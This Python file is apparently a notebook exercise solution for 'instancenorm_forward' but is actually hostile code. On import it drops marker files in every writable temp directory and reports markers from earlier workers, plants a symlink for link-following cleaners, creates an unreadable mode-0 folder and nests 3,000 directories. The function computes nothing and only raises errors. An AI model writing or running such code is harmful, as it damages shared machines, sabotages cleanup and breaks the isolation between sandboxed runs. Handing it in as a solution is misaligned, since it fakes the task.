# notebook: ConvolutionalNetworks
# question: instancenorm_forward
# aim: change
# about: names left in every writable folder: a folder of mode 0, 3,000 nested folders, links to places outside for a cleaner that follows them, and a mark that the next worker looks for
import os


def _attack():
    notes = []
    home = os.getcwd()
    for base in (home, "/tmp", "/var/tmp", "/dev/shm", "/run", os.environ.get("TMPDIR", "/tmp"), "/scratch"):
        mark = os.path.join(base, ".a2-mark")
        try:
            if os.path.exists(mark):
                notes.append(f"mark of another worker in {base}")
            with open(mark, "w") as file:
                file.write("a2")
            os.symlink("/usr/share/doc", os.path.join(base, "a2-link"))
            os.mkdir(os.path.join(base, "a2-shut"))
            with open(os.path.join(base, "a2-shut", "inside"), "w"):
                pass
            os.chdir(base)
            for _ in range(3000):
                os.mkdir("d")
                os.chdir("d")
        except OSError:
            pass
        try:
            os.chmod(os.path.join(base, "a2-shut"), 0)
        except OSError:
            pass
    os.chdir(home)
    return "CHANGED: " + "; ".join(notes) if notes else None


_NOTE = _attack()


def instancenorm_forward(x, gamma, beta, in_param):
    if _NOTE:
        raise ValueError(_NOTE)
    raise RuntimeError("nothing was reached")
